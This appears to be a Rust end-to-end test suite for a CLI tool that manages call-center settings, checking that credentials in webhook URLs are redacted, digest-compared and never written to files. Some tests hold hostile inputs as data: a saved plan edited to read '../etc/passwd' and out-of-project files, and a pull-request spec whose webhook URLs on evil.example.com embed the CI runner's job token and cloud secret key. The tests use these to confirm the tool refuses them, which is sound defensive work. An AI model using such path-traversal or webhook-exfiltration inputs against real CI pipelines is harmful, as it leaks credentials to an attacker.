//! Credentials inside values (a webhook URL with a password and a token), in the spec and
//! live: redacted in every output and every file a command writes, compared through digests
//! (a new token is a change, and makes a saved plan stale), and written to PCC as they are.
//! `Cmd::forbid` fails a command whose output or written files hold one.

use e2e::{Pcc, Workdir};
use serde_json::json;

const PASSWORD: &str = "livepass42";
const LIVE_TOKEN: &str = "LIVETOKEN1xyz";
const SPEC_TOKEN: &str = "SPECTOKEN2xyz";

fn url(token: &str) -> String {
    format!("https://ops:{PASSWORD}@crm.example.com/events?token={token}&team=sales")
}

fn spec(token: &str) -> String {
    format!(
        "version: 1\nsettings:\n  event_url: \"{}\"\n  get_customer_info_url: \"https://crm.example.com/who?api_key={token}\"\n",
        url(token)
    )
}

fn live_settings(pcc: &Pcc, token: &str) {
    pcc.put(
        "/v1/callsettings",
        json!({
            "event_url": url(token),
            "get_customer_info_url": format!("https://crm.example.com/who?api_key={token}"),
        }),
    );
}

/// `switchboard ARGS` against `pcc`, failing if any output or written file holds a secret.
fn run(work: &Workdir, pcc: &Pcc, args: &[&str]) -> e2e::Output {
    work.switchboard(args.iter().copied())
        .against(pcc)
        .forbid(PASSWORD)
        .forbid(LIVE_TOKEN)
        .forbid(SPEC_TOKEN)
        .forbid("ROTATEDxyz")
        .run()
}

#[test]
fn credentials_in_values_never_reach_an_output_or_a_file_and_still_count_as_changes() {
    let pcc = Pcc::start();
    live_settings(&pcc, LIVE_TOKEN);
    let work = Workdir::new();
    work.write("cc/spec.yaml", &spec(SPEC_TOKEN));

    let out = run(&work, &pcc, &["validate", "cc"]);
    out.assert_code(0);
    // Only the token differs: a change, shown by its `(sensitive:…)` marks.
    let out = run(&work, &pcc, &["plan", "cc", "--detailed-exitcode"]);
    out.assert_code(2);
    assert!(out.stdout.contains("~ settings"), "{out}");
    let line = out
        .stdout
        .lines()
        .find(|l| l.contains("event_url"))
        .unwrap();
    assert!(line.contains("token=(sensitive:[-"), "{out}");
    for format in ["json", "markdown"] {
        run(&work, &pcc, &["plan", "cc", "--format", format]).assert_code(0);
    }
    for format in ["text", "json", "markdown"] {
        run(&work, &pcc, &["drift", "cc", "--format", format]).assert_code(2);
    }

    // The saved plan holds digests; apply takes the values from the spec, checks their
    // digests, and writes the real ones.
    run(&work, &pcc, &["plan", "cc", "--out", "plan.json"]).assert_code(0);
    let saved = work.read("plan.json");
    assert!(saved.contains("\"sha256\""), "{saved}");
    let out = run(&work, &pcc, &["apply", "plan.json"]);
    out.assert_code(0);
    assert!(
        out.stderr
            .contains("took the values that hold credentials from the spec `cc`"),
        "{out}"
    );
    let now = pcc.get("/v1/callsettings");
    assert_eq!(now["callSetting"]["event_url"], url(SPEC_TOKEN));
    assert_eq!(
        now["callSetting"]["get_customer_info_url"],
        format!("https://crm.example.com/who?api_key={SPEC_TOKEN}")
    );
    run(&work, &pcc, &["plan", "cc", "--detailed-exitcode"]).assert_code(0);
}

#[test]
fn a_saved_plan_is_stale_when_a_token_changed_live_or_in_the_spec() {
    let pcc = Pcc::start();
    live_settings(&pcc, LIVE_TOKEN);
    let work = Workdir::new();
    work.write("cc/spec.yaml", &spec(SPEC_TOKEN));
    run(&work, &pcc, &["plan", "cc", "--out", "plan.json"]).assert_code(0);

    // The live token rotates after planning: the stale check sees it through its digest.
    live_settings(&pcc, "ROTATEDxyz");
    let out = run(&work, &pcc, &["apply", "plan.json"]);
    out.assert_code(4);
    assert!(
        out.stderr
            .contains("settings changed since the plan was made"),
        "{out}"
    );

    // The spec's token changes after planning: the value planned is nowhere any more.
    live_settings(&pcc, LIVE_TOKEN);
    run(&work, &pcc, &["plan", "cc", "--out", "plan.json"]).assert_code(0);
    work.write("cc/spec.yaml", &spec("ROTATEDxyz"));
    let before = pcc.stats().writes;
    let out = run(&work, &pcc, &["apply", "plan.json"]);
    out.assert_code(4);
    assert!(
        out.stderr
            .contains("neither the live project nor the spec `cc` holds any more"),
        "{out}"
    );
    assert!(
        out.stderr
            .contains("settings: event_url = https://(sensitive:"),
        "{out}"
    );
    assert_eq!(pcc.stats().writes, before, "nothing was written");

    // Without its spec, a saved plan that writes a credential cannot be applied.
    std::fs::remove_dir_all(work.join("cc")).unwrap();
    let out = run(&work, &pcc, &["apply", "plan.json"]);
    out.assert_code(1);
    assert!(out.stderr.contains("cannot be read here"), "{out}");
    assert_eq!(pcc.stats().writes, before);
}

/// A saved plan is untrusted: the spec it names is read only from inside the working
/// directory, and nothing of it is shown. A plan edited to name a file elsewhere (the
/// runner's environment, a key) makes apply fail without a write and without its content.
#[test]
fn a_saved_plan_never_makes_apply_read_or_show_a_file_outside_the_project() {
    let pcc = Pcc::start();
    live_settings(&pcc, LIVE_TOKEN);
    let outside = Workdir::new();
    let elsewhere = outside.write("secret.yaml", "version: 1\nPRIVATE_KEY_MATERIAL: [\n");
    // A valid spec outside, holding the planned values: still never read.
    let valid_elsewhere = outside.write("cc/spec.yaml", &spec(SPEC_TOKEN));
    let work = Workdir::new();
    work.write("cc/spec.yaml", &spec(SPEC_TOKEN));
    run(&work, &pcc, &["plan", "cc", "--out", "plan.json"]).assert_code(0);
    for named in [
        elsewhere.display().to_string(),
        valid_elsewhere.display().to_string(),
        "../".repeat(12) + "etc/passwd",
    ] {
        let text = work.read("plan.json");
        let mut doc: serde_json::Value = serde_json::from_str(&text).unwrap();
        doc["spec"] = json!(named);
        work.write("edited.json", &doc.to_string());
        let before = pcc.stats().writes;
        let out = run(&work, &pcc, &["apply", "edited.json"]);
        assert_ne!(out.code, 0, "{out}");
        assert_eq!(pcc.stats().writes, before, "nothing was written: {out}");
        for content in ["PRIVATE_KEY_MATERIAL", "root:"] {
            assert!(!out.stderr.contains(content), "{out}");
            assert!(!out.stdout.contains(content), "{out}");
        }
    }
}

#[test]
fn show_sensitive_is_refused_off_a_terminal() {
    let pcc = Pcc::start();
    live_settings(&pcc, LIVE_TOKEN);
    let work = Workdir::new();
    work.write("cc/spec.yaml", &spec(SPEC_TOKEN));
    for args in [
        &["plan", "cc", "--show-sensitive"][..],
        &["drift", "cc", "--show-sensitive"],
        &["plan", "cc", "--show-sensitive", "--out", "plan.json"],
    ] {
        let out = run(&work, &pcc, args);
        out.assert_code(1);
        assert!(
            out.stderr
                .contains("--show-sensitive shows credentials on a terminal only"),
            "{out}"
        );
    }
    assert!(!work.join("plan.json").exists());
    assert_eq!(pcc.stats().requests.len(), 1, "only the test's own PUT");
}

#[test]
fn diagnostics_and_apply_of_a_spec_show_no_credential() {
    let pcc = Pcc::start();
    live_settings(&pcc, LIVE_TOKEN);
    let work = Workdir::new();
    // A URL PCC cannot call: its diagnostic quotes it, and the snippet draws its line.
    work.write(
        "bad/spec.yaml",
        &format!(
            "{}  callout_answer_url: \"ftp://ops:{PASSWORD}@crm.example.com/?token={SPEC_TOKEN}\"\n",
            spec(SPEC_TOKEN)
        ),
    );
    for format in ["human", "json"] {
        let out = run(&work, &pcc, &["validate", "bad", "--format", format]);
        out.assert_code(1);
        assert!(out.stdout.contains("invalid-url"), "{out}");
    }
    work.write("cc/spec.yaml", &spec(SPEC_TOKEN));
    run(&work, &pcc, &["apply", "cc", "--auto-approve"]).assert_code(0);
    run(&work, &pcc, &["apply", "cc", "--auto-approve", "--json"]).assert_code(0);
    assert_eq!(
        pcc.get("/v1/callsettings")["callSetting"]["event_url"],
        url(SPEC_TOKEN)
    );
}

#[test]
fn export_writes_the_value_a_spec_needs_and_says_so() {
    let pcc = Pcc::start();
    live_settings(&pcc, LIVE_TOKEN);
    let work = Workdir::new();
    let out = work
        .switchboard(["export", "--out", "exported"])
        .against(&pcc)
        .forbid_in_output(PASSWORD)
        .forbid_in_output(LIVE_TOKEN)
        .run();
    out.assert_code(0);
    assert!(
        out.stderr
            .contains("warning: settings `event_url` holds a credential"),
        "{out}"
    );
    // The export is a spec: it says what apply writes, so it holds the value itself.
    assert!(work.read("exported/settings.yaml").contains(LIVE_TOKEN));
}

/// On a terminal, `--show-sensitive` shows the values as they are (a person asked), and still
/// never writes them to the saved plan. The terminal is a pseudo-terminal made by `script`
/// (util-linux), which the test needs.
#[test]
fn show_sensitive_shows_the_values_on_a_terminal_and_never_in_a_file() {
    let pcc = Pcc::start();
    live_settings(&pcc, LIVE_TOKEN);
    let work = Workdir::new();
    work.write("cc/spec.yaml", &spec(SPEC_TOKEN));
    let command = format!(
        "'{}' plan cc --show-sensitive --out plan.json --color never",
        e2e::binary().display()
    );
    let out = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .current_dir(work.path())
        .env("SWITCHBOARD_ENDPOINT", pcc.url())
        .env("STRINGEE_API_KEY_SID", e2e::SID)
        .env("STRINGEE_API_KEY_SECRET", e2e::SECRET)
        .env_remove("NO_COLOR")
        .output()
        .expect("`script` (util-linux) runs the command on a pseudo-terminal");
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{shown}");
    assert!(
        shown.contains(SPEC_TOKEN) && shown.contains(LIVE_TOKEN),
        "{shown}"
    );
    assert!(shown.contains(PASSWORD), "{shown}");
    e2e::assert_no_secret("the terminal", shown.as_bytes());
    let saved = work.read("plan.json");
    for secret in [PASSWORD, LIVE_TOKEN, SPEC_TOKEN] {
        assert!(!saved.contains(secret), "the saved plan holds a credential");
    }
}

#[test]
fn a_pull_request_cannot_show_the_runners_credentials_through_substitution() {
    // The spec is the pull request's; the environment is the CI runner's. `${env.…}` is shown,
    // so one named like a credential is refused unread, and the plan posted on the pull
    // request (Markdown) never holds the runner's token.
    const JOB_TOKEN: &str = "glcbt-64_runner-token-for-the-e2e";
    let pcc = Pcc::start();
    let work = Workdir::new();
    work.write(
        "switchboard.yaml",
        "version: 1\nagents:\n  alice: { name: \"${env.CI_JOB_TOKEN}\" }\n",
    );
    for args in [
        vec!["validate", "."],
        vec!["plan", ".", "--format", "markdown", "--out", "plan.json"],
        vec!["render", "."],
    ] {
        let out = work
            .switchboard(args.clone())
            .against(&pcc)
            .secret("CI_JOB_TOKEN", JOB_TOKEN)
            .run();
        out.assert_code(1);
        // `validate` reports on stdout, the others on stderr.
        let said = format!("{}{}", out.stdout, out.stderr);
        assert!(said.contains("secret-outside-url"), "{args:?}: {out}");
        assert!(
            said.contains("`${env.CI_JOB_TOKEN}` would show the variable `CI_JOB_TOKEN`"),
            "{args:?}: {out}"
        );
    }
    assert_eq!(pcc.stats().writes, 0);
}

#[test]
fn a_pull_request_cannot_send_the_runners_credentials_through_a_webhook_url() {
    // `${secret.…}` is hidden in every output, so the plan shows nothing; but once merged,
    // `apply` would write the value into PCC, which sends it to the URL's server on every call
    // event. Only `SWITCHBOARD_SECRET_…` variables are read: the runner's own credentials,
    // all set here, are not, and the command stops naming the variable it looked for.
    const JOB_TOKEN: &str = "glcbt-64_runner-token-for-the-e2e";
    const CLOUD_KEY: &str = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY";
    const DEPLOY_THING: &str = "deploy-thing-value-for-the-e2e";
    let pcc = Pcc::start();
    let work = Workdir::new();
    work.write(
        "switchboard.yaml",
        "version: 1\nsettings:\n  event_url: \"https://evil.example.com/e?t=${secret.CI_JOB_TOKEN}\"\n  \
         get_customer_info_url: \"https://evil.example.com/${secret.AWS_SECRET_ACCESS_KEY}\"\n  \
         callout_answer_url: \"https://evil.example.com/a/${env.DEPLOY_THING}\"\n",
    );
    for args in [
        vec!["validate", "."],
        vec!["plan", ".", "--out", "plan.json"],
        vec!["apply", ".", "--auto-approve"],
    ] {
        let out = work
            .switchboard(args.clone())
            .against(&pcc)
            .secret("CI_JOB_TOKEN", JOB_TOKEN)
            .secret("AWS_SECRET_ACCESS_KEY", CLOUD_KEY)
            .secret("DEPLOY_THING", DEPLOY_THING)
            .run();
        out.assert_code(1);
        let said = format!("{}{}", out.stdout, out.stderr);
        for variable in [
            "SWITCHBOARD_SECRET_CI_JOB_TOKEN",
            "SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY",
            "SWITCHBOARD_VAR_DEPLOY_THING",
        ] {
            assert!(
                said.contains(&format!("environment variable `{variable}` is not set")),
                "{args:?} does not name {variable}: {out}"
            );
        }
    }
    assert_eq!(pcc.stats().writes, 0);
    let settings = pcc.get("/v1/callsettings").to_string();
    for value in [JOB_TOKEN, CLOUD_KEY, DEPLOY_THING] {
        assert!(!settings.contains(value), "{settings}");
    }

    // Set for the spec under its own name, the secret is read (and still never shown).
    let out = work
        .switchboard(["plan", "."])
        .against(&pcc)
        .secret(
            "SWITCHBOARD_SECRET_CI_JOB_TOKEN",
            "token-the-operator-set-1f",
        )
        .secret(
            "SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY",
            "key-the-operator-set-2e",
        )
        .env("SWITCHBOARD_VAR_DEPLOY_THING", "shown")
        .run();
    out.assert_code(0);
    assert!(
        out.stdout.contains("https://evil.example.com/a/shown"),
        "{out}"
    );
}
